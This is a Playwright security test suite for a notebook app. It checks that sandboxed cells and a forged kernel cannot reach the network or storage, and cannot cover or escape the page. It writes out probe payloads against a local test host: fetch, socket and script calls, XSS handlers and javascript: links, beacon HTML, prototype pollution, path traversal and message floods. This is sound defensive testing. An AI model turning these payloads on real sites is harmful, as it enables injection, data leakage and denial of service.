import {expect, test} from "@playwright/test";
import type {Locator, Page} from "@playwright/test";
import {GLOBALS} from "../../lib/kernel/index.ts";
import {button, openElsewhere, openNotebook, output, readJson, runText} from "./notebook.ts";
import type {Elsewhere} from "./notebook.ts";

/** What a cell may name of its surroundings besides what the kernel lists: nothing that leads anywhere. */
const LEFT = ["PERSISTENT", "TEMPORARY", "WebAssembly", "console", "constructor"];

let elsewhere: Elsewhere;
test.beforeAll(async () => {
  elsewhere = await openElsewhere();
});
test.beforeEach(() => elsewhere.forget());
test.afterAll(() => elsewhere.close());

/** What a thread may try, each as the body of an async function that knows the addresses of the book and of another site. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  "a database": `await new Promise((resolve, reject) => { const open = indexedDB.open("x"); open.onsuccess = resolve; open.onerror = () => reject(open.error); });`,
  "the names of databases": `await indexedDB.databases();`,
  caches: `await caches.open("x");`,
  locks: `await navigator.locks.request("x", () => 1);`,
  "private files": `await navigator.storage.getDirectory();`,
  "a request to the book": `await fetch(book + "/");`,
  "a request elsewhere": `await fetch(away + "/hit/fetch");`,
  "a request that outlives the page": `await fetch(away + "/hit/keepalive", {keepalive: true, method: "POST", body: "x"});`,
  "an older request": `const request = new XMLHttpRequest(); request.open("GET", away + "/hit/xhr", false); request.send();`,
  "an event stream": `const stream = new EventSource(away + "/hit/stream"); await new Promise((resolve) => { stream.onerror = stream.onopen = resolve; }); stream.close(); throw new Error("told by the other site");`,
  "a socket": `const socket = new WebSocket(away.replace("http", "ws") + "/hit/socket"); await new Promise((resolve) => { socket.onerror = socket.onopen = resolve; }); throw new Error("told by the other site");`,
  "a font": `const font = new FontFace("away", "url(" + away + "/hit/font)"); await font.load();`,
  "a script": `importScripts(away + "/hit/script");`,
  "a module elsewhere": `await import(away + "/hit/module");`,
  "a module of its own making": `await import("data:text/javascript,export default 1");`,
  "a module under a blob": `await import(URL.createObjectURL(new Blob(["export default 1"], {type: "text/javascript"})));`,
  "a thread's request": `const nested = new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(away + "/hit/nested") + ").then(() => postMessage(true), () => postMessage(false))"]))); if (!await new Promise((resolve) => { nested.onmessage = ({data}) => resolve(data); })) throw new Error("refused");`
};
const ASKED = "fetch font keepalive module nested script socket stream xhr".split(" ");
const TOLD_ELSEWHERE = ["a socket", "an event stream", "a font"];

/** The source of a function that makes all attempts, and tells of each whether it came to its end. */
function toAttacks(book: string): string {
  const attempts = Object.entries(ATTEMPTS).map(
    ([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`
  );
  return `async () => {
    const [book, away] = ${JSON.stringify([book, elsewhere.url])};
    const found = {};
    for (const [name, attempt] of Object.entries({${attempts.join(",\n")}}))
      found[name] = await attempt().then(() => "reached", () => "refused");
    return found;
  }`;
}

const all = (told: string): Readonly<Record<string, string>> =>
  Object.fromEntries(
    Object.keys(ATTEMPTS).map((name) => [name, TOLD_ELSEWHERE.includes(name) ? "refused" : told])
  );

/** Runs a worker of any source in the frame of kernels, as the page does; resolves with what it posts first on its second port. */
async function runInFrame(page: Page, source: string): Promise<unknown> {
  return page.evaluate(
    (text) =>
      new Promise<unknown>((resolve) => {
        const [frame, calls, events] = [
          new MessageChannel(),
          new MessageChannel(),
          new MessageChannel()
        ];
        const element = document.createElement("iframe");
        element.setAttribute("sandbox", "allow-scripts");
        element.src = "/generated/kernel/runner.html";
        element.onload = () => element.contentWindow?.postMessage(null, "*", [frame.port2]);
        document.body.append(element);
        events.port1.onmessage = ({data}: MessageEvent<unknown>) => resolve(data);
        frame.port1.postMessage({type: "source", text});
        frame.port1.postMessage({type: "create", worker: 1}, [calls.port2, events.port2]);
      }),
    source
  );
}

test("no thread in the frame of kernels reaches storage, network or other threads' channels, wall or no wall", async ({
  page,
  context,
  baseURL
}) => {
  const book = baseURL ?? "";
  const plain = await context.newPage();
  await plain.goto(elsewhere.serve("<p>A page without any policy</p>"));
  // That the attempts are real is seen where nothing forbids them.
  const had = await plain.evaluate(
    (source) =>
      new Promise<unknown>((resolve) => {
        const worker = new Worker(URL.createObjectURL(new Blob([source])));
        worker.onmessage = ({data}: MessageEvent<unknown>) => resolve(data);
      }),
    `(${toAttacks(elsewhere.url)})().then(postMessage)`
  );
  expect(had).toEqual(all("reached"));
  expect([...elsewhere.hits].sort()).toEqual(ASKED);
  elsewhere.forget();

  const {cells, complaints} = await openNotebook(page);
  const [cell, other] = cells;
  if (cell === undefined || other === undefined) throw new Error("the chapter has no cells");
  const bare = await runInFrame(
    page,
    `self.onmessage = ({ports: [, events]}) => (${toAttacks(book)})().then((found) => events.postMessage(found))`
  );
  expect(bare).toEqual(all("refused"));

  // Two tabs of the book hear each other; threads in their frames hear neither them nor each other.
  await plain.goto(page.url());
  const listen = (): void => {
    const channel = new BroadcastChannel("probe");
    const heard: unknown[] = [];
    channel.onmessage = ({data}: MessageEvent<unknown>) => heard.push(data);
    Object.assign(globalThis, {channel, heard});
  };
  await page.evaluate(listen);
  await plain.evaluate(listen);
  const speak = (name: string): string =>
    `self.onmessage = ({ports: [, events]}) => { const heard = []; const channel = new BroadcastChannel("probe"); channel.onmessage = ({data}) => heard.push(data); let left = 20; const timer = setInterval(() => { channel.postMessage(${JSON.stringify(name)}); if (--left === 0) { clearInterval(timer); events.postMessage(heard); } }, 20); }`;
  const first = runInFrame(page, speak("first"));
  const second = runInFrame(plain, speak("second"));
  await plain.evaluate(() =>
    (globalThis as unknown as {channel: BroadcastChannel}).channel.postMessage("tab")
  );
  expect([await first, await second]).toEqual([[], []]);
  const heard = await page.evaluate(() => (globalThis as unknown as {heard: unknown[]}).heard);
  expect(heard).toEqual(["tab"]);

  // In a cell there is the wall before the frame: next to nothing of a worker is left to name.
  await runText(
    cell,
    `const names = new Set<string>();
for (let at: object = globalThis; at !== EventTarget.prototype; at = Object.getPrototypeOf(at)) for (const name of Object.getOwnPropertyNames(at)) names.add(name);
const attack = (0, eval)(${JSON.stringify(`(${toAttacks(book)})`)});
const found = await attack();
JSON.stringify({names: [...names], found})`,
    "done"
  );
  const {names, found} = (await readJson(cell)) as {names: string[]; found: unknown};
  expect(found).toEqual(all("refused"));
  expect(names.filter((name) => !GLOBALS.has(name)).sort()).toEqual(LEFT);
  expect([...elsewhere.hits]).toEqual([]);
  await runText(other, "1 + 1", "done");
  expect((await complaints()).violations).toEqual([]);
});

/** HTML that asks another site for something as soon as it stands, by the name of what it asks for. */
const BEACONS: Readonly<Record<string, (hit: string) => string>> = {
  image: (hit) => `<img src="${hit}">`,
  sources: (hit) => `<picture><source srcset="${hit}"><img></picture>`,
  "input-image": (hit) => `<input type="image" src="${hit}">`,
  background: (hit) => `<table background="${hit}"><tr><td>x</td></tr></table>`,
  style: (hit) => `<div style="background: url(${hit})">x</div>`,
  import: (hit) => `<style>@import "${hit}";</style>`,
  font: (hit) =>
    `<style>@font-face { font-family: away; src: url(${hit}); } .away { font-family: away; }</style><p class="away">x</p>`,
  sheet: (hit) => `<link rel="stylesheet" href="${hit}">`,
  poster: (hit) => `<video poster="${hit}"></video>`,
  video: (hit) => `<video src="${hit}" preload="auto"></video>`,
  "svg-image": (hit) => `<svg><image href="${hit}" width="9" height="9"/></svg>`,
  foreign: (hit) =>
    `<svg><foreignObject width="9" height="9"><img src="${hit}"></foreignObject></svg>`,
  frame: (hit) => `<iframe src="${hit}"></iframe>`,
  nested: (hit) => `<iframe srcdoc="&lt;img src='${hit}'>"></iframe>`,
  object: (hit) => `<object data="${hit}"></object>`,
  embed: (hit) => `<embed src="${hit}">`,
  script: (hit) => `<script src="${hit}"></script>`,
  inline: (hit) => `<script>fetch("${hit}")</script>`,
  handler: (hit) => `<img src="data:," onerror="fetch('${hit}')">`,
  load: (hit) => `<svg onload="fetch('${hit}')"></svg>`,
  toggle: (hit) => `<details open ontoggle="fetch('${hit}')">x</details>`,
  refresh: (hit) => `<meta http-equiv="refresh" content="0; url=${hit}">`
};

/** HTML that leads away when it is clicked on. */
const BAITS: Readonly<Record<string, (hit: string) => string>> = {
  link: (hit) => `<a class="bait" href="${hit}">x</a>`,
  top: (hit) => `<a class="bait" href="${hit}" target="_top">x</a>`,
  script: (hit) => `<a class="bait" href="javascript:fetch('${hit}')">x</a>`,
  ping: (hit) => `<a class="bait" href="#x" ping="${hit}">x</a>`,
  form: (hit) => `<form action="${hit}"><button class="bait">x</button></form>`,
  formaction: (hit) => `<form><button class="bait" formaction="${hit}">x</button></form>`,
  "svg-link": (hit) =>
    `<svg height="20"><a class="bait" href="${hit}"><text y="15">x</text></a></svg>`,
  animated: (hit) =>
    `<svg height="20"><a class="bait"><animate attributeName="href" values="${hit}"/><text y="15">x</text></a></svg>`,
  set: (hit) =>
    `<svg height="20"><a class="bait"><set attributeName="href" to="javascript:fetch('${hit}')"/><text y="15">x</text></a></svg>`,
  area: (hit) =>
    `<map name="m"><area class="bait" shape="rect" coords="0,0,50,50" href="${hit}"></map>`
};

test("HTML that a cell shows asks nobody for anything, leads nowhere and covers nothing", async ({
  page,
  context
}) => {
  const hit = (name: string): string => `${elsewhere.url}/hit/${name}`;
  const plain = await context.newPage();
  const sent = Object.entries(BEACONS).map(([name, make]) => make(hit(name)));
  // That each of them is one is seen on a page that forbids nothing.
  await plain.goto(elsewhere.serve(sent.join("\n")));
  await expect.poll(() => [...elsewhere.hits].sort()).toEqual(Object.keys(BEACONS).sort());
  for (const [name, make] of Object.entries(BAITS)) {
    elsewhere.forget();
    const lured = await context.newPage();
    await lured.goto(elsewhere.serve(make(hit(name))));
    await lured.locator(".bait").dispatchEvent("click");
    await expect.poll(() => [...elsewhere.hits], name).toEqual([name]);
  }
  elsewhere.forget();

  const {cells, complaints} = await openNotebook(page);
  const [cell, other] = cells;
  if (cell === undefined || other === undefined) throw new Error("the chapter has no cells");
  const address = page.url();
  const opened: string[] = [];
  context.on("page", (popup) => opened.push(popup.url()));
  page.on("download", (download) => opened.push(download.url()));
  page.on("dialog", (dialog) => opened.push(dialog.message()));
  const cover = `<div style="position: fixed; inset: 0; z-index: 2147483647">cover</div><input autofocus><p id="shown">shown</p>`;
  const html = [...sent, ...Object.entries(BAITS).map(([name, make]) => make(hit(name))), cover];
  await runText(
    cell,
    `const shown = Object.assign([${JSON.stringify(html.join("\n"))}], {raw: []});\nhtml(shown as never)`,
    "done"
  );
  const inside = cell.frameLocator("iframe.output-frame");
  await expect(inside.locator("#shown")).toHaveText("shown");
  const baits = inside.locator(".bait");
  await expect(baits).toHaveCount(Object.keys(BAITS).length);
  for (const bait of await baits.all()) await bait.dispatchEvent("click");
  // The cover ends where its frame does, and the focus is where it was.
  await expect(inside.locator("#shown")).toHaveText("shown");
  expect(await page.evaluate(() => document.activeElement?.tagName)).not.toBe("IFRAME");
  await runText(other, "1 + 1", "done");
  expect(await complaints()).toEqual({violations: [], errors: expect.anything() as unknown});
  expect([page.url(), opened, [...elsewhere.hits]]).toEqual([address, [], []]);
});

/** What a cell shows that is larger than its place, or stands elsewhere. */
const COVERS: Readonly<Record<string, string>> = {
  "a formula in a text": "md`x $\\kern-40em\\rlap{\\rule[5em]{49em}{9em}}$`",
  "a formula as wide as the screen": "md`$\\rlap{\\hspace{40em}\\colorbox{red}{\\Huge over}}$`",
  "a displayed formula": "tex`\\kern-40em\\rlap{\\rule{49em}{9em}}`",
  "a label": "view(range({label: '$\\\\kern-40em\\\\rule{49em}{9em}$', min: 0, max: 1}))",
  "a formula in a table": "table([{a: md`$\\kern-40em\\rule{49em}{9em}$`}])"
};

/** How much of what stands beside a cell is covered by it. */
const countCovered = (cell: Locator): Promise<number> =>
  cell.evaluate((element) => {
    element.scrollIntoView({block: "center"});
    const {left, right, top, bottom} = element.getBoundingClientRect();
    // A formula may overhang a little, as letters do.
    const margin = 48;
    let covered = 0;
    for (let y = Math.max(4, top); y < Math.min(innerHeight, bottom); y += 12)
      for (const x of [4, left - margin, right + margin, innerWidth - 4])
        if (element.contains(document.elementFromPoint(x, y))) covered += 1;
    return covered;
  });

test("nothing that a cell sets as text or formula covers what stands beside it", async ({page}) => {
  const {cells} = await openNotebook(page);
  const [cell] = cells;
  if (cell === undefined) throw new Error("the chapter has no cells");
  for (const [name, code] of Object.entries(COVERS)) {
    await runText(cell, code, "done");
    const base = cell.locator(".katex .base").first();
    await expect(base).toBeAttached();
    // WebKit would lift out of its line what clips by overflow.
    await expect.soft(base, name).toHaveCSS("overflow", "visible");
    expect.soft(await countCovered(cell), name).toBe(0);
  }
});

/** The source of a worker in the place of the kernel's: it answers calls, and at a run does as it likes with the ports that the page listens to. */
const toKernel = (attack: string): string => `
  self.onmessage = ({ports: [calls, events]}) => {
    calls.onmessage = ({data}) => {
      calls.postMessage({id: data.id, type: "RAW", value: undefined});
      if (data.path[0] === "run") attack(data.argumentList[0].value[0], {calls, events, id: data.id});
    };
  };
  const plot = (more) => ({kind: "plot", plot: {marks: [], title: null, x: {title: null, scale: "linear", range: null}, y: {title: null, scale: "linear", range: null}, z: {title: null, scale: "linear", range: null}, height: null, aspect: "free", ...more}});
  const style = {label: null, color: null, width: null, dash: null, opacity: null, size: null};
  function attack(cell, {calls, events, id}) { ${attack} }`;

/** Runs the first cell of a chapter whose kernel is this one. */
async function openHostile(
  page: Page,
  attack: string
): Promise<Awaited<ReturnType<typeof openNotebook>>> {
  await page.route("**/generated/kernel/kernel.js", (route) =>
    route.fulfill({contentType: "text/javascript", body: toKernel(attack)})
  );
  const opened = await openNotebook(page);
  const [cell] = opened.cells;
  if (cell !== undefined) await button(cell, "Run").click();
  return opened;
}

test("whatever a kernel sends, the page shows it as text, values and drawings, and asks nobody for anything", async ({
  page
}) => {
  const away = elsewhere.url;
  const lures = [
    `<a href="javascript:document.title='broken'">lure</a>`,
    `<a href="${away}/hit/link">lure</a>`,
    `<img src="${away}/hit/image" onerror="document.title='broken'">lure`,
    `<svg onload="document.title='broken'"></svg>lure`,
    `&lt;a href="${away}/hit/entity">lure&lt;/a>`,
    `\\href{javascript:document.title='broken'}{lure}`,
    `$\\href{javascript:document.title='broken'}{lure}$`,
    `$\\htmlData{x=1}{lure}\\includegraphics{${away}/hit/graphics}$`,
    `[lure](javascript:document.title='broken')`,
    `![lure](${away}/hit/markdown)`,
    `<style>@import "${away}/hit/import"; * { display: none }</style>lure`,
    `<base href="${away}/hit/base"><iframe src="${away}/hit/frame"></iframe>lure`
  ];
  const {cells, complaints} = await openHostile(
    page,
    `const lures = ${JSON.stringify(lures)};
    const values = [];
    for (const text of lures) values.push(
      {kind: "string", text}, {kind: "told", text}, {kind: "markdown", text}, {kind: "tex", tex: text}, {kind: "function", signature: text},
      {kind: "error", error: {name: text, message: text, line: 1, column: 1, source: text}},
      {kind: "object", name: text.slice(0, 200), entries: [[text, {kind: "string", text}], ["__proto__", {kind: "markdown", text}]], length: 2},
      {kind: "table", columns: [text], rows: [[{kind: "markdown", text}], [{kind: "tex", tex: text}], [{kind: "html", html: text}]], length: 3});
    const box = {...plot(), config: {}, layout: {images: [{source: ${JSON.stringify(`${away}/hit/layout`)}}]}};
    const axis = (title) => ({title, scale: "linear", range: null, ticktext: lures});
    const drawing = plot({title: lures[0], x: axis(lures[1]), y: axis(lures[4]), images: [{source: ${JSON.stringify(`${away}/hit/images`)}}], annotations: lures.map((text) => ({text, clicktoshow: "onoff"})), layout: {template: {}, mapbox: {}}, uirevision: {}, shapes: [{type: "path", path: lures[2]}], marks: [
      {...style, label: lures[0], mark: "scatter", x: [0, 1], y: [0, 1], names: [lures[0], lures[1]], hovertemplate: lures[0], text: lures, customdata: lures, type: "scattermapbox", stackgroup: "x"},
      {...style, label: lures[1], mark: "text", x: [0.2, 0.8], y: [0.5, 0.5], text: [lures[4], lures[2]]},
      {...style, label: lures[2], mark: "line", x: [0, 1], y: [1, 0]}]});
    const bars = plot({marks: [{...style, label: lures[0], mark: "bars", x: lures, y: lures.map((_, i) => i + 1)}]});
    values.push({...drawing, ...{plot: drawing.plot}}, bars, box);
    events.postMessage([
      {type: "state", cell, run: 1, state: "running", error: null, ms: 0},
      {type: "log", cell, run: 1, lines: lures.map((text) => ({level: "warn", text})), dropped: 0},
      {type: "progress", cell, run: 1, label: lures[0], done: 1, total: 2, ms: 1},
      ...lures.map((label, key) => ({type: "input", cell, run: 1, key, spec: {kind: "range", label, min: 0, max: 1, step: 0.1, value: 0, log: false}, value: 0})),
      ...values.map((value, slot) => ({type: "output", cell, run: 1, slot, value})),
      {type: "outputs-end", cell, run: 1, slots: values.length},
      {type: "state", cell, run: 1, state: "error", error: {name: lures[0], message: lures[1], line: 1, column: 1, source: lures[0].slice(0, 80)}, ms: 1}]);`
  );
  const [cell] = cells;
  if (cell === undefined) throw new Error("the chapter has no cells");
  await expect(cell).toHaveAttribute("data-state", "error");
  // All of it is drawn: both drawings, what formulas made of it, and what markdown did.
  await expect(cell.locator(".main-svg").first()).toBeVisible();
  await expect(cell.locator(".barlayer .point")).toHaveCount(lures.length);
  await expect(cell.locator(".katex").first()).toBeAttached();
  const lured = cell.locator("[data-output]");
  expect(await lured.innerText()).toContain("lure");
  const point = cell.locator(".scatterlayer .point").first();
  await point.hover({force: true});
  await expect(cell.locator(".hoverlayer text").first()).toContainText("<a href=");
  const found = await cell.evaluate((element) => {
    // The bar is the page's own.
    const list = [...element.querySelectorAll("*:not(.cell-bar *)")];
    return {
      links: list.flatMap((one) => {
        const href = one.getAttribute("href") ?? one.getAttribute("xlink:href");
        return href === null || href.startsWith("#") ? [] : [`${one.localName} ${href}`];
      }),
      handlers: list.filter((one) => [...one.attributes].some(({name}) => /^on/i.test(name)))
        .length,
      elements: [
        ...new Set(
          list
            .map((one) => one.localName)
            .filter((name) => /^(script|style|base|link|meta|object|embed|form|image)$/.test(name))
        )
      ],
      frames: list.filter(
        (one) => one instanceof HTMLIFrameElement && one.getAttribute("sandbox") !== "allow-scripts"
      ).length,
      images: list.filter((one) => one instanceof HTMLImageElement && /^http/.test(one.src)).length
    };
  });
  expect(found).toEqual({
    links: expect.any(Array) as unknown,
    handlers: 0,
    elements: [],
    frames: 0,
    images: 0
  });
  // A link is the reader's to follow, and says where it leads.
  expect(found.links.filter((link) => !/^a https?:/.test(link))).toEqual([]);
  expect(await page.title()).not.toBe("broken");
  expect((await complaints()).violations).toEqual([]);
  expect([...elsewhere.hits]).toEqual([]);
});

test("a kernel that forges, floods and sends what no kernel sends does not break the page", async ({
  page
}) => {
  const {cells, complaints} = await openHostile(
    page,
    `const port = () => new MessageChannel().port1;
    const state = (more) => ({type: "state", cell, run: 1, state: "running", error: null, ms: 0, ...more});
    const send = (message, transfer = []) => events.postMessage(message, transfer);
    const cycle = []; cycle.push(cycle);
    const long = "x".repeat(5e5);
    const transferred = port();
    for (const message of [
      null, 0, "text", [], {}, cycle, [cycle], [[state({})]], new Map([["type", "state"]]), new Error("x"), new Uint8Array(1e6), new ImageData(1, 1),
      [state({cell: "__proto__"})], [state({cell: "constructor"})], [state({cell: {}})], [state({run: -1})], [state({run: NaN})], [state({run: 1e308})], [state({run: "2"})],
      [state({state: "static"})], [state({error: {name: long, message: long, line: 1e9, column: -1, source: 3}})], [JSON.parse('{"__proto__": {"polluted": 1}, "type": "state"}')],
      [{type: "look", cell, run: 1, id: 1, answer: {kind: "part", value: {kind: "proxy"}}}], [{type: "look", cell, run: 1, id: {}, answer: null}],
      [{type: "output", cell, run: 1, slot: 1e9, value: {kind: "null"}}], [{type: "output", cell, run: 1, slot: "__proto__", value: {kind: "null"}}],
      [{type: "output", cell, run: 1, slot: 0, value: {kind: "matrix", rows: 1e9, columns: 1e9, shownRows: 1e9, shownColumns: 1e9, values: []}}],
      [{type: "output", cell, run: 1, slot: 0, value: {kind: "string", text: {toString: 1}}}],
      [{type: "inputs-end", cell, run: 1, inputs: 1e9}], [{type: "outputs-end", cell, run: 1, slots: -1}],
      [{type: "input", cell, run: 1, key: 0, spec: {kind: "range", label: "", min: 1, max: 0, step: -1, value: 5, log: true}, value: 0}],
      {type: "file", request: 1, name: "../../../api/health"}, {type: "file", request: 2, name: "http://127.0.0.1/x"}, {type: "file", request: {}, name: 3}
    ]) send(message);
    send({type: "file", request: 3, name: transferred}, [transferred]);
    send([state({}), {type: "output", cell, run: 1, slot: 0, value: {kind: "string", text: "and the page goes on"}}, {type: "outputs-end", cell, run: 1, slots: 1}, state({state: "done", ms: 1})]);
    // What Comlink would act on: an object at the other end of a port, in an answer that nobody waits for. Later, since one port does not wait for another.
    const sent = port();
    setTimeout(() => calls.postMessage({id, type: "HANDLER", name: "proxy", value: sent}, [sent]), 2000);`
  );
  const [cell, other] = cells;
  if (cell === undefined || other === undefined) throw new Error("the chapter has no cells");
  // The answer too many ended that kernel; what it had said stands.
  await expect(output(cell)).toContainText("and the page goes on");
  await expect(cell).toContainText("sent more than the page can take");
  const polluted = await page.evaluate((): readonly unknown[] => [
    Reflect.get({}, "polluted") as unknown,
    Object.keys(Object.prototype),
    document.body.isConnected
  ]);
  expect(polluted).toEqual([undefined, [], true]);
  // A kernel that never stops sending is ended, and the page goes on drawing.
  await page.unroute("**/generated/kernel/kernel.js");
  const flood = await openHostile(
    page,
    `const lines = Array.from({length: 1000}, () => ({level: "log", text: "x".repeat(200)}));
    for (let run = 1; ; run++) events.postMessage([{type: "state", cell, run, state: "running", error: null, ms: 0}, {type: "log", cell, run, lines, dropped: 1e6}]);`
  );
  const [flooding] = flood.cells;
  if (flooding === undefined) throw new Error("the chapter has no cells");
  await expect(flooding).toContainText("sent more than the page can take");
  expect((await complaints()).violations).toEqual([]);
});
